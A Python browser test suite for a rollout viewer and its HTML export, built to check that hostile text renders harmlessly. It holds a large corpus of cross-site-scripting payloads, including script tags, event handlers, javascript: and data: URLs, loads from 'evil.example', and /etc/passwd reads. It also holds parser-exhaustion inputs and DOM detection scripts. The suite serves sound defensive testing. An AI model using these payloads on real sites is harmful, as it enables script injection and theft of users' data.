"""Hostile texts in a real browser, on pages of rollouts and in an exported file.

A page has all texts of a kind, each of them at every place of a conversation, to need few pages.
"""

import base64
import time
from itertools import product

import pytest
from drawing import drawn

pytestmark = [pytest.mark.slow, pytest.mark.long]
LONGEST_SECONDS = 10
"""Of CPU time for a page; an idle machine needs one or two, a busy one more."""
TAKE = "window.taken=alert(1)"
EVIL = "http://evil.example"
ENCODED = base64.b64encode(f"<script>{TAKE}</script>".encode()).decode()
TAGS = ("img src=x", "svg", "body", "iframe src=x", "video src=x", "details open", "input autofocus", "object data=x",
        "math", "a href=#", "marquee", "form action=x", "x tabindex=1 autofocus")  # fmt: skip
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onstart")
SCRIPTS = (
    f"<script>{TAKE}</script>", f"<SCRIPT>{TAKE}</SCRIPT>", f"<script src={EVIL}/x.js></script>",
    f"<scr<script>ipt>{TAKE}</scr</script>ipt>", f"<script/x>{TAKE}</script>", f"<svg><script>{TAKE}</script></svg>",
    f"<<script>{TAKE}//<</script>", f"</code></pre></div><script>{TAKE}</script>", f"<!--><script>{TAKE}</script>-->",
    f"<![CDATA[<script>{TAKE}</script>]]>", f"<?x <script>{TAKE}</script>?>", f"&lt;script&gt;{TAKE}&lt;/script&gt;",
    f"&#60;script&#62;{TAKE}&#60;/script&#62;", f"`<script>{TAKE}</script>`", f"```html\n<script>{TAKE}</script>\n```",
    f"    <script>{TAKE}</script>", f"```\"><script>{TAKE}</script>\nx\n```",
    f"<iframe srcdoc='<script>{TAKE}</script>'>",
    f"<template><script>{TAKE}</script></template>", f"<noscript><p title=\"</noscript><img src=x onerror={TAKE}>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={TAKE}&gt;\">",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={TAKE}>\">", f"<style>@import '{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>", f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>", f"<form action={EVIL}><button>x</button></form>", f"<div style='background:url({EVIL}/x)'>",
    f"<textarea></textarea><script>{TAKE}</script>", f"<title></title><script>{TAKE}</script>", "</main></body></html>",
    f"{{{{ ''.__class__ }}}} {{% raw %}} ${{{TAKE}}} <%= {TAKE} %>", f"<svg><use href='{EVIL}/x.svg#x'></svg>",
    f"<svg><animate xlink:href=#a attributeName=href values=javascript:{TAKE}></svg>",
    f"<a href=javascript:{TAKE}>x</a>",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{TAKE}", f"JaVaScRiPt:{TAKE}", f"java\tscript:{TAKE}", f"java&#10;script:{TAKE}",
    f"&#106;avascript:{TAKE}", f"\x01javascript:{TAKE}", f"javascript&colon;{TAKE}", f"vbscript:{TAKE}",
    f"data:text/html;base64,{ENCODED}", f"data:image/svg+xml;base64,{ENCODED}", "file:///etc/passwd", "blob:null/x",
    "//evil.example/x", "\\\\evil.example/x", "http:evil.example", f"{EVIL}\" onclick=\"{TAKE}", f"{EVIL}/'><script>",
    "http://localhost\\@evil.example/", "http://127.0.0.1@evil.example", "https://\u0430pple.com", "http:///x",
    "about:x",
)  # fmt: skip
FORMS = ("[a]({})", "<{}>", '[{0}]({0} "{0}")', "[a]\n\n[a]: {}", "![a]({})", "[a](<{}>)", "[![a]({0})]({0})")
LATEX = (
    r"\href{javascript:TAKE}{x}", r"\url{javascript:TAKE}", r"\text{<script>TAKE</script>}",
    r"<img src=x onerror=TAKE>",
    r"\style{background:url(EVIL)}{x}", r"\class{markdown}{x}", r"\cssId{keys}{x}", r"\htmlData{x=y}{z}",
    r"\includegraphics{EVIL/x.png}", r"\input{/etc/passwd}", r"\def\a{\a\a}\a",
    r"\newcommand{\a}[1]{#1#1}\a{\a{\a{x}}}",
    r"\frac{1}{", r"\frac{1", r"}{", r"\left( x", r"\begin{align} a &= b", r"\end{align}", r"\begin{x}a\end{x}",
    r"\unknown{x}",
    r"&&&", r"x^y^z", r"\\\\", r"\\", r"\label{main}\ref{main}", r"\tag{<b>}x", r"\char`<script>", r"\unicode{x202e}",
    r"\hspace{999999em}x", r"\rule{99999em}{99999em}", r"\color{red;background:url(EVIL)}{x}",
    r"\boxed{<script>TAKE</script>}",
    "x^{" * 300 + "}" * 300, "{" * 900 + "}" * 900, r"\sqrt" * 300 + "x", r"\frac1" * 300 + "1",
    "\\left(" * 250 + "\\right)" * 250,
    "\\begin{matrix}" * 60 + "\\end{matrix}" * 60, "&" * 900, "x" * 1_900, "\u202ex\x00\x1b", r"\text{\u202e}",
    r"\verb|<script>|",
)  # fmt: skip
MATHS = ("${}$", "$${}$$", "\\[{}\\]", "{}")
MARKDOWN = (
    ">" * 3_000 + "a\n" + "b\n" * 500,
    "> " * 3_000, "- " * 3_000, "* " * 3_000, "1. " * 1_000, "[" * 5_000, "![" * 2_500,
    "[a](" * 2_500, "*a **b " * 1_000, "_" * 5_000, "`" * 5_000, "".join("`" * n + " " for n in range(90)), "<" * 5_000,
    "&" * 5_000, "#" * 5_000, "|" * 5_000, "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|\n" * 500, "~" * 5_000,
    "".join(" " * n + "- a\n" for n in range(90)), "[a]: b\n" * 500 + "[a]" * 500, "```\n" * 500, "a\n=\n" * 500,
    "\\" * 5_000, "$" * 5_000, "$x$" * 1_000, "\\boxed{" * 500, "<!--" * 1_000, "<div>\n" * 500, "\ufdd00\ufdd1$x$",
    "def f():\n    x\n" * 200, "```javascript\n" + "a=>" * 160 + "\n```", "```c\n" + "//" * 240 + "\n" * 5_000 + "```",
)  # fmt: skip
HIDDEN = [*range(0x20), *range(0x7F, 0xA0), *range(0x202A, 0x202F), *range(0x2066, 0x206A)]


def hostile_pages():
    """Texts of every kind, at most 40 of a kind together."""
    formulas = [latex.replace("TAKE", TAKE).replace("EVIL", EVIL) for latex in LATEX]
    kinds = (
        [f"<{tag} {event}={TAKE}>" for tag, event in product(TAGS, EVENTS)],
        SCRIPTS,
        [form.format(address) for form, address in product(FORMS, ADDRESSES)],
        [form.replace("{}", latex) for form, latex in product(MATHS, formulas)],
        MARKDOWN,
        [f"a{sign}b **{sign}** &#x{ord(sign):x}; `{sign}` $x{sign}$" for sign in map(chr, HIDDEN)],
    )
    assert len({text for texts in kinds for text in texts}) > 400
    return [texts[at : at + 40] for texts in (drawn(kind, 40) for kind in kinds) for at in range(0, len(texts), 40)]


RICH = r"""# A heading

Some *text*, **bold**, ~~struck~~, `code`, a [link](https://example.org/), $x^2$ and \boxed{some words}.

| a | b |
|--:|:-:|
| 1 | $\frac{1}{2}$ |

```python
def f(x: int) -> str:  # a comment
    return "text" + str(1.5) + f"{x}"
```

```diff
-old
+new
```

> a quote

1. one
   - [x] two

$$\begin{aligned} a &= b \\ c &= \boxed{42} \end{aligned}$$
"""
FORBIDDEN = """
[...document.querySelectorAll("main *")].filter(each =>
    each.matches("script:not([src]), iframe, object, embed, style, link, img, base, meta, video, audio, use, animate")
    || each.matches(".markdown :is(form, input, button, svg, textarea)")
    || [...each.attributes].some(one => one.name.startsWith("on") || one.name === "style")
    || each.href && !["http:", "https:", "file:"].includes(each.protocol)
).map(each => each.outerHTML.slice(0, 300))
"""
INVISIBLE = r"""
document.body.textContent.match(/[\0-\x08\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/g) ?? []
"""


def hostile_rollout(run_writer, number, texts):
    """The rollouts of an example that has each text at every place."""
    completion = []
    for text in texts:
        call = {"id": text, "name": "run", "arguments": {"text": text}}
        completion += [
            {"role": "system", "content": text},
            {"role": "user", "content": text},
            {"role": "assistant", "content": text, "reasoning_content": text, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": text, "content": text},
        ]
    together = "\n\n".join(texts)
    fields = {"answer": together, "parsed_answer": together}
    error = {**run_writer.failure, "message": together}
    ended = run_writer.rollout(number, 0, 1.0, completion=completion, **fields)
    return [ended, run_writer.failed(number, 1, error=error, **fields)]


@pytest.fixture(scope="module")
def warehouse(shared_house, run_writer):
    """A warehouse of a run with a page of each group of texts, a short run to export, and a run of long texts."""
    from nightjar.view.texts import LONGEST_RENDERED

    def said(number, text):
        return run_writer.rollout(number, 0, completion=[{"role": "assistant", "content": text}], parsed_answer="42")

    parts = (RICH, "|a|b|\n|-|-|\n", "$x^2$ ", "<img src=x onerror=alert(1)> ")
    large = [part * (LONGEST_RENDERED // len(part)) for part in parts] + [RICH * (10_000_000 // len(RICH))]
    for run_id, rows in {
        "hostile": [
            row for number, texts in enumerate(hostile_pages()) for row in hostile_rollout(run_writer, number, texts)
        ],
        "short": [said(1, RICH), *hostile_rollout(run_writer, 0, SCRIPTS)],
        "large": [said(number, text) for number, text in enumerate(large)],
    }.items():
        shared_house.publish_rows(run_id, rows, status="completed", state_columns=["parsed_answer"])
    return shared_house.warehouse


@pytest.fixture(scope="module")
def address(serve, warehouse):
    from nightjar.view.server import Access

    with serve(warehouse, Access()) as address:
        yield address


def assert_harmless(page):
    assert page.evaluate("window.taken") is None
    assert page.evaluate(FORBIDDEN) == []
    assert page.evaluate(INVISIBLE) == []


def visit(page, path):
    """Opens a page. Returns the CPU seconds of the server and of the page, which other programs do not lengthen."""
    session = page.context.new_cdp_session(page)
    session.send("Performance.enable", {"timeDomain": "threadTicks"})
    started = time.process_time()
    assert page.goto(path, wait_until="load").status == 200
    page.evaluate("document.body.offsetHeight")
    served = time.process_time() - started
    measured = {each["name"]: each["value"] for each in session.send("Performance.getMetrics")["metrics"]}
    assert page.url.endswith(path)
    assert_harmless(page)
    return served + measured["TaskDuration"]


def assert_accessible(page):
    axe = pytest.importorskip("axe_playwright_python.sync_playwright", reason="needs the extra 'dev'")
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        violations = axe.Axe().run(page, options={"resultTypes": ["violations"]}).response["violations"]
        assert [(each["id"], each["nodes"][0]["html"]) for each in violations] == []


def test_no_text_runs_or_fetches_anything(page):
    seconds = {}
    for number in range(len(hostile_pages())):
        seconds[number, 0] = visit(page, f"/runs/hostile/{number}/0")
        assert page.locator(".markdown").count() > 0
        seconds[number, 1] = visit(page, f"/runs/hostile/{number}/1")
    assert {place: taken for place, taken in seconds.items() if taken >= LONGEST_SECONDS} == {}


def test_long_texts_are_shown_in_seconds(page):
    """Long texts are rendered, but not tables with too many rows; longer ones are cut."""
    found = {}
    for number in range(5):
        seconds = visit(page, f"/runs/large/{number}/0")
        is_rendered = page.locator(".turn.assistant .markdown").count() == 1
        is_cut = page.get_by_text("more characters; see the raw JSON").count() == 1
        found[number] = (is_rendered, is_cut, seconds < LONGEST_SECONDS)
    rendered, cut, neither = (True, False, True), (False, True, True), (False, False, True)
    assert found == dict(enumerate([rendered, neither, rendered, rendered, cut]))


def test_a_rendered_page_is_accessible_and_its_raw_text_is_shown_by_a_key_and_remembered(page):
    page.set_viewport_size({"width": 390, "height": 800})
    visit(page, "/runs/short/1/0")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390  # its tables scroll
    assert page.locator(".markdown math").count() > 0
    assert page.locator(".markdown mark").inner_text().endswith("42")
    assert_accessible(page)
    raw, rendered = page.locator(".turn.assistant .raw").last, page.locator(".turn.assistant .markdown").last
    assert (raw.is_visible(), rendered.is_visible()) == (False, True)
    page.keyboard.press("r")
    assert (raw.is_visible(), rendered.is_visible()) == (True, False)
    assert raw.inner_text().strip() == RICH.strip()
    assert_accessible(page)
    page.reload()
    assert (raw.is_visible(), rendered.is_visible()) == (True, False)
    page.get_by_label("Raw text").uncheck()
    assert (raw.is_visible(), rendered.is_visible()) == (False, True)


def test_an_exported_file_runs_only_its_own_script(page, warehouse, nightjar, tmp_path):
    file = tmp_path / "run.html"
    ended = nightjar("export", "short", "--warehouse", warehouse.location, "--html", file)
    assert ended.code == 0, ended.err
    page.goto(file.as_uri(), wait_until="load")
    page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
    assert page.locator(".markdown mark").last.is_visible()
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.locator(".turn.assistant").filter(has=page.locator("mark")).get_by_role("button", name="Copy").click()
    page.get_by_text("Copied").wait_for()
    assert page.evaluate("navigator.clipboard.readText()") == RICH
    page.keyboard.press("r")
    assert page.locator(".raw").last.is_visible()
    page.reload()
    assert page.get_by_label("Raw text").is_checked()
    assert_harmless(page)
